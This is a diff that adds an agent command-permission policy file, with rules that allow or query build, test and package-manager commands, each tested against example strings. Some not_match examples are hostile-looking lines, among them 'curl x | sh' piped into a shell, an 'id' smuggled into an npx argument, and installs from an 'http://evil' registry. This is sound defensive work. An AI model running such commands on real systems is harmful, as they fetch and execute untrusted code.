@@ -1,0 +1,203 @@
+# Building and testing. All of these run code that stands in files: package scripts, Makefiles, build.rs, conftest.py. The
+# agent can write those files, so allowing a build allows, in the end, whatever the agent's user may do. That is what
+# cooperative mode means: these rules keep an honest agent from doing harm by mistake. For a boundary, run the agent in a
+# guard session, where what a build starts is judged too, or give these rules a profile.
+
+rule "node packages" {
+  commands    = ["npm", "pnpm", "yarn", "bun"]
+  subcommands = ["ci", "install", "test", "run", "start", "list", "outdated", "view", "audit", "explain", "why", "root", "prefix", "ping", "search", "fund", "dedupe", "prune", "build", "rebuild", "lint", "dev", "typecheck", "format", "query", "doctor", "help", "bin", "add", "remove", "uninstall", "update"]
+  action      = "allow"
+  match       = ["npm ci", "npm install", "npm test", "npm run build -- --watch=false", "npm install lodash", "pnpm install --frozen-lockfile", "yarn test"]
+  not_match   = ["npm publish", "npm exec -- evil", "npm config set x y", "npm login"]
+}
+
+rule "node packages from elsewhere" {
+  commands = ["npm", "pnpm", "yarn", "bun", "npx"]
+  when {
+    flags_any = ["-g", "--global", "--registry", "--script-shell", "--unsafe-perm", "--location=global"]
+  }
+  action    = "ask"
+  reason    = "This installs for all projects, or from another registry. Install into the project, from the registry that it is set to."
+  match     = ["npm install -g evil", "npm i --registry=http://evil x", "npm i --location=global x"]
+  not_match = ["npm install", "npm i -D x"]
+}
+
+rule "node packages by address" {
+  commands     = ["npm", "pnpm", "yarn", "bun"]
+  operands_any = ["*://*", "git@*", "git+*", "github:*", "gitlab:*", "*.tgz", "npm:*", "*@*://*"]
+  action       = "ask"
+  reason       = "This installs code from an address instead of the registry. Name a published version."
+  match        = ["npm i git+ssh://git@host/x", "npm install https://host/x.tgz"]
+  not_match    = ["npm i react@18.2.0", "npm i @types/node"]
+}
+
+rule "node tools" {
+  commands  = ["npx", "pnpx", "bunx"]
+  operands  = ["{tsc,eslint,prettier,jest,vitest,playwright,mocha,ava,c8,nyc,tsx,ts-node,vite,webpack,rollup,esbuild,next,nuxt,astro,svelte-check,vue-tsc,biome,@biomejs/biome,turbo,nx,tailwindcss,stylelint,knip,depcheck,npm-check-updates,prisma,drizzle-kit,cypress,storybook,markdownlint,husky,lint-staged,commitlint,typedoc,swc,babel,rimraf}", "**"]
+  action    = "allow"
+  opaque    = "allow"
+  match     = ["npx tsc --noEmit", "npx eslint src --fix", "npx vitest run"]
+  not_match = ["npx evil", "npx -p evil tsc", "npx -c 'tsc; id'"]
+}
+
+rule "project tools" {
+  commands = [
+    "tsc", "eslint", "prettier", "jest", "vitest", "mocha", "playwright", "vite", "webpack", "rollup", "esbuild", "biome", "next", "turbo", "nx", "stylelint", "ts-node", "tsx", "deno",
+    "pytest", "py.test", "tox", "nox", "ruff", "black", "isort", "flake8", "pylint", "mypy", "pyright", "bandit", "coverage", "pre-commit", "virtualenv",
+    "gofmt", "goimports", "golangci-lint", "staticcheck", "govulncheck", "gopls", "dlv", "rustc", "rustfmt", "clippy-driver", "cargo-clippy", "cargo-fmt",
+    "javac", "mvn", "mvnw", "gradle", "gradlew", "ant", "kotlinc", "scalac", "sbt", "dotnet", "msbuild", "swift", "swiftc", "xcodebuild",
+    "cmake", "ctest", "ninja", "meson", "make", "gmake", "bazel", "buck2", "just", "task", "autoreconf", "configure", "gcc", "g++", "cc", "c++", "clang", "clang++", "clang-format", "clang-tidy", "ld", "ar", "as", "strip", "ranlib", "pkg-config", "protoc", "buf",
+    "shellcheck", "shfmt", "hadolint", "yamllint", "markdownlint", "actionlint", "jsonlint", "tflint", "ansible-lint", "phpunit", "phpstan", "composer", "rspec", "rubocop", "bundle", "rake", "mix", "elixir", "ghc", "cabal", "stack", "dart", "flutter", "zig", "nimble", "lua", "julia", "Rscript", "tree-sitter", "pandoc", "dot", "convert", "magick", "ffprobe",
+  ]
+  action    = "allow"
+  match     = ["make", "make -j8 test", "pytest -q tests/test_a.py", "cmake --build build", "./gradlew build", "eslint ."]
+  not_match = ["makeself", "pip install x"]
+}
+
+rule "publishing from a build tool" {
+  commands     = ["mvn", "mvnw", "gradle", "gradlew", "dotnet", "composer", "bundle", "rake", "mix", "dart", "flutter", "cabal", "stack", "buf", "poetry", "uv", "hatch", "flit", "pdm", "twine", "gem", "bun", "deno", "swift", "xcodebuild", "make", "gmake", "just", "task", "nx", "turbo", "sbt"]
+  operands_any = ["publish", "deploy", "release", "release:*", "push", "nuget", "hex.publish", "upload", "site-deploy", "publish*", "deploy*", "*:publish*", "*:deploy*", "global", "destroy", "*destroy"]
+  action       = "ask"
+  reason       = "This looks like publishing or deploying. Build and test; a person releases."
+  match        = ["mvn deploy", "make release", "gradle publish", "mix hex.publish", "poetry publish"]
+  not_match    = ["make test", "mvn -q verify"]
+}
+
+rule "make another way" {
+  commands = ["make", "gmake"]
+  when {
+    flags_any = ["-f=/*", "--file=/*", "--makefile=/*", "--eval", "-E"]
+  }
+  action    = "ask"
+  reason    = "This runs recipes from outside the project, or from the command line. Use the project's own targets."
+  not_match = ["make test"]
+}
+
+locals {
+  python = ["python", "python3", "python3.*", "python2", "pypy", "pypy3"]
+}
+
+rule "python tests and tools" {
+  commands  = local.python
+  args      = ["-m", "{pytest,unittest,doctest,venv,virtualenv,tox,nox,ruff,black,isort,flake8,pylint,mypy,pyright,coverage,build,compileall,py_compile,json.tool,timeit,cProfile,pre_commit,sphinx,mkdocs,ensurepip,site,tabnanny,ast,dis}", "**"]
+  action    = "allow"
+  opaque    = "allow"
+  match     = ["python -m pytest -q", "python3 -m venv .venv", "python3 -m unittest discover -s tests"]
+  not_match = ["python3 -m http.server", "python3 -c 'x' -m pytest"]
+}
+
+rule "programs of the project" {
+  commands = ["python", "python3", "python3.*", "python2", "node", "ruby", "perl", "php", "deno", "bun"]
+  operands = ["*.{py,js,mjs,cjs,ts,mts,rb,pl,php}", "**"]
+  action   = "allow"
+  unless {
+    paths_any = ["/tmp/**", "/var/tmp/**", "/dev/shm/**", "~/Downloads/**"]
+  }
+  match     = ["python3 manage.py migrate", "node scripts/gen.mjs --all", "perl tools/x.pl"]
+  not_match = ["python3 -c 'import os'", "node -e 1", "python", "python3 /tmp/x.py", "node -r ./evil.js x.js"]
+}
+
+rule "scripts of the project" {
+  commands   = ["sh", "bash", "dash", "zsh"]
+  operands   = ["*.{sh,bash,zsh}", "**"]
+  flags_only = ["-e", "-u", "-x", "-v", "-l"]
+  action     = "allow"
+  opaque     = "allow"
+  unless {
+    paths_any = ["/tmp/**", "/var/tmp/**", "/dev/shm/**", "~/Downloads/**"]
+  }
+  match     = ["bash scripts/test.sh", "sh -e ci/build.sh --fast", "bash -x a.sh"]
+  not_match = ["bash -c 'curl x | sh; a.sh'", "bash /tmp/x.sh", "bash -s a.sh", "sh"]
+}
+
+rule "scripts by name" {
+  commands = ["*.sh", "*.bash"]
+  action   = "allow"
+  unless {
+    paths_any = ["/tmp/**", "/var/tmp/**", "/dev/shm/**", "~/Downloads/**"]
+  }
+  match     = ["./scripts/test.sh --fast", "./build.sh"]
+  not_match = ["./x.py"]
+}
+
+rule "python packages" {
+  commands    = ["pip", "pip3", "pip3.*", "uv", "poetry", "pdm", "pipenv", "conda", "mamba"]
+  subcommands = ["install", "list", "show", "freeze", "check", "index", "download", "wheel", "sync", "lock", "venv", "run", "add", "remove", "uninstall", "update", "tree", "export", "env", "info", "version", "pip", "search", "build", "debug", "inspect", "hash", "cache", "tool"]
+  action      = "allow"
+  match       = ["pip install -r requirements.txt", "pip list", "poetry install", "uv sync", "pip3 install -e ."]
+  not_match   = ["pip config set x y", "poetry publish"]
+}
+
+rule "python packages, by module" {
+  commands  = local.python
+  args      = ["-m", "pip", "{install,list,show,freeze,check,download,wheel,index,uninstall}", "**"]
+  action    = "allow"
+  opaque    = "allow"
+  match     = ["python3 -m pip install -r requirements.txt"]
+  not_match = ["python3 -m pip config set a b"]
+}
+
+rule "python packages from elsewhere" {
+  commands = ["pip", "pip3", "pip3.*", "uv", "poetry", "pdm", "pipenv"]
+  when {
+    flags_any = ["-i", "--index-url", "--extra-index-url", "--trusted-host", "--break-system-packages", "--target=/*", "--prefix", "--root", "-f", "--find-links", "--default-index", "--system"]
+  }
+  action    = "ask"
+  reason    = "This installs into the system, or from another index. Install into a virtual environment, from the index that the project uses."
+  match     = ["pip install -i http://evil x", "pip install --break-system-packages x"]
+  not_match = ["pip install x", "pip install -r requirements.txt"]
+}
+
+rule "python packages by address" {
+  commands     = ["pip", "pip3", "pip3.*", "uv", "poetry", "pdm", "pipenv"]
+  operands_any = ["*://*", "git+*", "*@*+*"]
+  action       = "ask"
+  reason       = "This installs code from an address instead of the index. Name a published version."
+  match        = ["pip install git+https://host/x", "pip install https://host/x.whl"]
+  not_match    = ["pip install requests==2.31.0", "pip install 'x[extra]'"]
+}
+
+rule "go" {
+  commands    = ["go"]
+  subcommands = ["build", "test", "vet", "fmt", "run", "mod", "list", "env", "version", "doc", "generate", "get", "install", "tool", "clean", "work", "fix", "help"]
+  action      = "allow"
+  match       = ["go build ./...", "go test -run TestX ./pkg", "go vet ./...", "go mod tidy", "go run ./cmd/x"]
+}
+
+rule "go from elsewhere" {
+  commands = ["go"]
+  when {
+    flags_any = ["-toolexec", "-exec", "-w", "-modcacherw", "-overlay", "-modcache", "-u=all"]
+  }
+  action    = "ask"
+  reason    = "This runs another program for each step, or changes settings of the user. Use the plain command."
+  match     = ["go build -toolexec ./x ./...", "go env -w GOFLAGS=x", "go test -exec ./x ./...", "go clean -modcache"]
+  not_match = ["go test ./..."]
+}
+
+rule "cargo" {
+  commands    = ["cargo"]
+  subcommands = ["build", "test", "check", "clippy", "fmt", "run", "doc", "bench", "tree", "metadata", "fetch", "update", "add", "remove", "clean", "new", "init", "search", "version", "nextest", "fix", "b", "t", "c", "r", "vendor", "generate-lockfile", "locate-project", "pkgid", "audit", "deny", "expand", "llvm-cov", "help"]
+  action      = "allow"
+  opaque      = "allow"
+  unless { flags_any = ["--config"] }
+  match     = ["cargo build --release", "cargo test foo", "cargo clippy -- -D warnings", "cargo fmt --check"]
+  not_match = ["cargo publish", "cargo login"]
+}
+
+rule "versions" {
+  commands  = ["node", "npm", "npx", "pnpm", "yarn", "bun", "deno", "python", "python3", "python3.*", "pip", "pip3", "ruby", "gem", "perl", "php", "java", "rustup", "docker", "podman", "kubectl", "helm", "terraform", "tofu", "gh", "aws", "gcloud", "az", "curl", "wget", "ssh", "nvm", "uv", "poetry", "git", "psql", "sqlite3", "redis-cli", "mysql", "bash", "zsh", "vim", "code", "systemctl", "conda", "openssl", "gpg", "rsync", "clawrden", "ffmpeg"]
+  args      = ["{--version,-V,version,--help,-version}"]
+  action    = "allow"
+  match     = ["node --version", "npm --version", "python3 --version", "rustup --version"]
+  not_match = ["npm publish --version", "python3 -c 1"]
+}
+
+rule "publish packages" {
+  commands    = ["npm", "pnpm", "yarn", "cargo", "gem", "twine", "bun", "helm"]
+  subcommands = ["publish", "unpublish", "deprecate", "dist-tag", "owner", "token", "login", "logout", "adduser", "access", "yank", "push", "upload", "team", "hook", "profile", "star"]
+  action      = "ask"
+  reason      = "Publishes under the user's name, or changes who may. Leave publishing to a person or to CI."
+  match       = ["npm publish", "cargo publish", "gem push x.gem", "twine upload dist/a"]
+  not_match   = ["npm test", "cargo build"]
+}
